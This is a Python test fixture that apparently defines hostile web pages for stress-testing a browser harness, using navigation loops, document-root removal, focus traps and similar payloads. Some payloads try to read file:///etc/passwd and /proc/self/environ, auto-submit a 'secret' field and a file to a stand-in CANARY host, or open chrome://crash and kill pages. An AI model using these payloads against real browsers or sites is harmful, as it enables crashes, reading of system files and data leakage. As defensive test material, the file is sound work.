"""Leaving the document, replacing it, and opening what is not the web."""

from __future__ import annotations

from page_attempt import BLIND, SLOW, HostilePage, framed, page, table

NAVIGATION = "navigation"
DOCUMENT = "the document itself"

_NAVIGATIONS = (
    (
        "navigate-at-once",
        "leave before the document has been read",
        "location.href='http://CANARY/next?'+Math.random()",
    ),
    (
        "navigate-loop",
        "leave again and again",
        "setInterval(()=>location.href='/n?'+Math.random(),1);setInterval(()=>location.replace('http://CANARY/r'),1)",
    ),
    ("navigate-reload", "load itself again and again", "setInterval(()=>location.reload(),1)"),
    (
        "navigate-history",
        "go back and forth in a history that it made",
        "for(let i=0;i<20;i++)history.pushState(i,'','?'+i);setInterval(()=>{history.go(-3);history.back();history.forward();history.go(0)},1)",
    ),
    (
        "navigate-blank",
        "become an empty document, whose address no interceptor sees",
        "setTimeout(()=>{location='about:blank'},30)",
    ),
    (
        "navigate-data",
        "become a document of its own making: data, blob and srcdoc addresses",
        "setTimeout(()=>{location=URL.createObjectURL(new Blob(['<h1>another page</h1>'],{type:'text/html'}))},30);setTimeout(()=>{location='data:text/html,<h1>data</h1>'},10)",
    ),
    (
        "navigate-scheme",
        "open other programs by their schemes",
        "let i=0;const u=['mailto:a@b.c','tel:1','intent://x#Intent;end','ms-word:x','ssh://CANARY','ftp://CANARY/x','view-source:http://localhost/','ws://CANARY/'];setInterval(()=>{location=u[i++%u.length]},45);setTimeout(()=>location='/left',400)",
    ),
    (
        "navigate-browser-pages",
        "open the browser's own pages: crash, kill, hang, restart, settings, devtools",
        "let i=0;const u=['chrome://crash','chrome://kill','chrome://hang','chrome://restart','chrome://inducebrowsercrashforrealz','chrome://gpucrash','chrome://settings','devtools://devtools/bundled/inspector.html','chrome-extension://a/b','about:crash','chrome-untrusted://x','isolated-app://x'];setInterval(()=>{try{location=u[i%u.length];open(u[i++%u.length])}catch(e){}},70);setTimeout(()=>location='/left',400)",
    ),
    (
        "navigate-api",
        "intercept navigations and never let them finish",
        "navigation.addEventListener('navigate',e=>{if(e.canIntercept)e.intercept({handler:()=>new Promise(()=>{})})});setInterval(()=>{navigation.navigate('/x?'+Math.random());navigation.reload();location.hash=Math.random()},5);setTimeout(()=>location='http://CANARY/out',50)",
    ),
)

_ROOTS = (
    (
        "document-opened",
        "open the document anew after it was loaded",
        "setInterval(()=>{document.open();document.write('<h1>anew</h1><p>'+Math.random());document.close()},20)",
    ),
    (
        "document-without-root",
        "remove the root element",
        "setTimeout(()=>document.documentElement.remove(),30)",
    ),
    (
        "document-root-replaced",
        "replace the root by a picture, a fragment and a body without a head",
        "setTimeout(()=>{const s=document.createElementNS('http://www.w3.org/2000/svg','svg');document.replaceChild(s,document.documentElement);setInterval(()=>{const h=document.createElement(Math.random()<.5?'html':'div');h.innerHTML='<i>x</i>';document.replaceChild(h,document.firstChild)},10)},30)",
    ),
    (
        "document-without-body",
        "take the body away whenever there is one",
        "setInterval(()=>document.body&&document.body.remove(),5)",
    ),
    (
        "document-moved",
        "move its own elements to a frame, to a template and to another document",
        "const f=document.createElement('iframe');document.body.append(f);setInterval(()=>{const d=document.implementation.createHTMLDocument('');d.body.append(...document.querySelectorAll('p'));const t=document.createElement('template');t.content.append(...document.querySelectorAll('h1'));f.contentDocument&&f.contentDocument.body&&f.contentDocument.body.append(...d.body.childNodes)},10)",
    ),
    (
        "document-churn",
        "make every element anew at each frame, so that nothing found is still there",
        "const h='<button>One</button><input aria-label=a><a href=#x>Two</a>';(function f(){document.body.innerHTML=h;requestAnimationFrame(f)})()",
    ),
    (
        "document-moves-away",
        "move and remove what the pointer comes near to",
        "for(let i=0;i<12;i++){const b=document.createElement('button');b.textContent='b'+i;b.onpointerenter=b.onfocus=()=>{b.remove();document.body.prepend(b);b.style.marginLeft=Math.random()*900+'px'};document.body.append(b)}addEventListener('pointermove',e=>e.target.remove&&e.target!==document.documentElement&&e.target.remove())",
    ),
    (
        "document-focus-trap",
        "give the focus back and forth, and swallow every key",
        "document.body.innerHTML='<input aria-label=a id=a><input aria-label=b id=b>';a.onfocus=()=>b.focus();b.onfocus=()=>a.focus();a.onblur=b.onblur=()=>a.focus();addEventListener('keydown',e=>{e.preventDefault();e.stopImmediatePropagation()},true);a.focus()",
    ),
    (
        "document-commands",
        "edit itself by commands, in storms, with the whole document editable",
        "document.designMode='on';document.body.contentEditable=true;setInterval(()=>{document.execCommand('selectAll');for(const c of['bold','insertHTML','indent','undo','redo','delete','insertText'])document.execCommand(c,false,'<b>x</b>')},10)",
    ),
    (
        "document-custom-elements",
        "make custom elements that make themselves anew in every reaction",
        "customElements.define('x-a',class extends HTMLElement{static observedAttributes=['n'];attributeChangedCallback(){this.setAttribute('n',Math.random())}connectedCallback(){this.setAttribute('n',1);document.body.append(document.createElement('x-a'))}});document.body.append(document.createElement('x-a'))",
    ),
)

PAGES = (
    *table(NAVIGATION, _NAVIGATIONS, ends=SLOW, named=("navigations|history|popups",)),
    HostilePage(
        name="navigate-flood",
        group=NAVIGATION,
        tries="flood the history and the fragment, five hundred entries at a time",
        html=page(
            "setInterval(()=>{for(let i=0;i<500;i++){history.pushState({},'','#'+i);history.replaceState(0,'','?'+i)}location.hash=Math.random()},1)"
        ),
        ends=SLOW,
    ),
    HostilePage(
        name="navigate-script",
        group=NAVIGATION,
        tries="replace the document by a script address, and loop in one",
        html=page(
            "setTimeout(()=>{location='javascript:\"<h1>replaced</h1>\"'},20);setTimeout(()=>{location='javascript:for(;;);'},60)"
        ),
        ends=SLOW,
    ),
    HostilePage(
        name="navigate-files",
        group=NAVIGATION,
        tries="read files of the machine by frames, pictures, requests and by going there",
        html=page(
            "fetch('file:///etc/passwd').catch(e=>0);const w=new XMLHttpRequest();w.open('GET','file:///etc/passwd');w.onerror=()=>0;w.send();setTimeout(()=>{location='file:///etc/passwd'},50);setTimeout(()=>{location='/left'},200);open('file:///etc/passwd')",
            body="<iframe src='file:///etc/passwd'></iframe><img src='file:///etc/passwd'><object data='file:///proc/self/environ'></object><link rel=stylesheet href='file:///etc/passwd'>",
        ),
        named=("navigations|popups|requests",),
    ),
    HostilePage(
        name="navigate-refresh",
        group=NAVIGATION,
        tries="leave by the refresh of a meta element",
        html=page(head="<meta http-equiv=refresh content='0;url=http://CANARY/meta'>"),
        named=("navigations",),
    ),
    HostilePage(
        name="navigate-form",
        group=NAVIGATION,
        tries="send forms by itself, by GET, POST and dialog, with files and to a script address",
        html=page(
            "setInterval(()=>{for(const f of document.forms){f.requestSubmit?f.requestSubmit():0;HTMLFormElement.prototype.submit.call(f)}},5)",
            body="<form action='http://CANARY/get'><input name=a value=secret aria-label=a></form><form method=post enctype=multipart/form-data action='http://CANARY/post'><input type=file name=f aria-label=f></form><form action='javascript:for(;;);'></form>",
        ),
        ends=SLOW,
        named=("navigations",),
    ),
    HostilePage(
        name="navigate-from-frame",
        group=NAVIGATION,
        tries="have the page led away by its frames",
        html=page(
            body=framed("setInterval(()=>{top.location='http://CANARY/top?'+Math.random()},5)")
            + "<iframe name=f srcdoc=\"<a id=a target=_top href='http://CANARY/t'>x</a><script>a.click()</script>\"></iframe>"
        ),
        ends=SLOW,
        named=("navigations",),
    ),
    HostilePage(
        name="navigate-base",
        group=NAVIGATION,
        tries="turn every relative address to another host and another window by a base element",
        html=page(
            "setTimeout(()=>document.querySelector('a').click(),30)",
            head="<base href='http://CANARY/base/' target=_top><script src=x.js></script><link rel=stylesheet href=y.css>",
            body="<a href=next>Next</a><img src=z.png>",
        ),
        named=("navigations", "requests"),
    ),
    HostilePage(
        name="navigate-speculation",
        group=NAVIGATION,
        tries="have the next pages loaded and run in advance",
        html=page(
            head='<script type=speculationrules>{"prerender":[{"source":"list","urls":["http://CANARY/pre","/pre"]}],"prefetch":[{"source":"list","urls":["http://CANARY/fetch"],"requires":["anonymous-client-ip-when-cross-origin"]}]}</script><link rel=prerender href=\'http://CANARY/old\'><link rel=next href=\'http://CANARY/n\'>',
            script="console.warn('speculated')",
        ),
        named=("console",),
    ),
    *table(DOCUMENT, _ROOTS[:9], ends=BLIND),
    *table(DOCUMENT, _ROOTS[9:], ends=SLOW, named=("exceptions",)),
)
